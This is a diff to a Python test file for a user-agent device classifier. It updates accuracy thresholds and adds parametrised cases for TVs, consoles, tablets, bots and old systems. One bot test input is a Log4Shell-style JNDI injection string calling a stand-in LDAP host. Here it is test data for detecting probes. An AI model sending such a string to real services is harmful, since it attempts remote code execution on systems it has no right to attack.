@@ -449,14 +449,14 @@ def test_invalid_options_are_rejected():
 # >= 95 % at precision >= 99 %) are not all reached: see docs/enrichment.md.
 SAMPLES = {
     "ua_sample_browscap.tsv": (
-        {"mobile": 0.94, "tablet": 0.81, "desktop": 0.94, "tv": 0.55, "console": 0.64},
-        0.76,
+        {"mobile": 0.95, "tablet": 0.81, "desktop": 0.95, "tv": 0.56, "console": 0.64},
+        0.77,
         0.94,
     ),
     "ua_sample.tsv": (
-        {"mobile": 0.96, "tablet": 0.83, "desktop": 0.86, "tv": 0.67, "console": 0.70},
-        0.80,
-        0.96,
+        {"mobile": 0.97, "tablet": 0.83, "desktop": 0.91, "tv": 0.68, "console": 0.70},
+        0.84,
+        0.955,
     ),
 }
 
@@ -666,3 +666,104 @@ def test_python_re_fallback_classifies_like_the_rust_regex_sets(monkeypatch):
 )
 def test_os_names_ua_parser_emits_are_classified(ua, os, expected):
     assert classify(ua, "Other", os, "Other", None, None) == expected
+
+
+def test_rules_compile_at_first_use_once_per_process(monkeypatch):
+    """open() compiles nothing; the first user agent builds the resolver and the class rules,
+    and every other device bolt of the process uses the same ones."""
+    from squall.enrichment import device
+    from squall.enrichment.device_class import DeviceClassifier
+
+    monkeypatch.setattr(device, "_shared_resolvers", [])
+    monkeypatch.setattr(device, "_default_classifier", DeviceClassifier())
+    first, second = (
+        DeviceBolt(DeviceBolt.Config(id=name, type="device"), ComponentContext("test"))
+        for name in ("a", "b")
+    )
+    first.open(None)
+    second.open(None)
+    assert device._shared_resolvers == []
+    assert first._classifier is second._classifier is device.shared_classifier()
+    assert not first._classifier._loaded
+    ua = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
+    assert first.parse(ua)["device_class"] == "bot"
+    assert second.parse(ua)["device_class"] == "bot"
+    assert len(device._shared_resolvers) == 1
+    assert first._resolver is second._resolver is device.shared_resolver()
+    assert first._classifier._loaded
+
+
+@pytest.mark.parametrize(
+    ("ua", "expected"),
+    [
+        # an Android set-top box named "…BOX" is a TV, not an Xbox; a Chromecast is a TV
+        (
+            "Mozilla/5.0 (Linux; Android 9; ACMEBOX-X1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+            "tv",
+        ),
+        (
+            "Mozilla/5.0 (Linux; Android 12; Chromecast Build/STTE.230319.008.R3; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.43 Mobile Safari/537.36",
+            "tv",
+        ),
+        (
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edge/20.02",
+            "console",
+        ),
+        # no "Mobile" means a tablet only in a whole browser string, not in one cut short
+        (
+            "Mozilla/5.0 (Linux; Android 11; ABC-123 Build/RKQ1.201112.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/96.0.4664.45",
+            "mobile",
+        ),
+        (
+            "Mozilla/5.0 (Linux; Android 11; ABC-123 Build/RKQ1.201112.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/96.0.4664.45 Safari/537.36",
+            "tablet",
+        ),
+        # a Galaxy Z Fold opened drops "Mobile"; Samsung's phone series says what it is
+        (
+            "Mozilla/5.0 (Linux; Android 14; SM-F946B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+            "mobile",
+        ),
+        (
+            "Mozilla/5.0 (Linux; Android 14; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+            "tablet",
+        ),
+        # tools that say what they do, contact addresses, probes, Google's "Google-…" fetchers
+        (
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 ExampleDiagnostics/1.0",
+            "bot",
+        ),
+        ("acme-survey/0.3 (contact: ops@example.org)", "bot"),
+        ("${jndi:ldap://probe.example/a}", "bot"),
+        ("Google-Safety", "bot"),
+        # and the same words do not make a phone's or an app's string a bot
+        (
+            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/440.0.0.33.117]",
+            "mobile",
+        ),
+        (
+            "Mozilla/5.0 (Linux; Android 13; Scanner X2) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
+            "mobile",
+        ),
+    ],
+)
+def test_general_rules_for_boxes_cut_strings_phone_series_and_tools(bolt, ua, expected):
+    [event] = bolt.process([make_event({"user_agent": ua})]).streams["default"]
+    assert event.value["device"]["device_class"] == expected
+
+
+@pytest.mark.parametrize(
+    ("ua", "expected"),
+    [
+        (
+            "Mozilla/5.0 (AmigaOS; U; AmigaOS 4.1; en-US; rv:1.8.1.21) Gecko/20090303 Example/1.0",
+            "desktop",
+        ),
+        ("Mozilla/5.0 (OS/2; Warp 4.5; rv:45.0) Gecko/20100101 Firefox/45.0", "desktop"),
+        ("ExampleLauncher/2.1 (win10 x64)", "desktop"),
+        ("SAMPLE-X100/1.0 UP.Browser/6.2.3 (GUI) MMP/2.0", "mobile"),
+        ("[FBAN/FB4A;FBAV/400.0.0.1;FBPN/com.facebook.katana;FBDV/Example-1;FBSV/12;]", "mobile"),
+    ],
+)
+def test_systems_and_phone_software_ua_parser_does_not_name(bolt, ua, expected):
+    [event] = bolt.process([make_event({"user_agent": ua})]).streams["default"]
+    assert event.value["device"]["device_class"] == expected
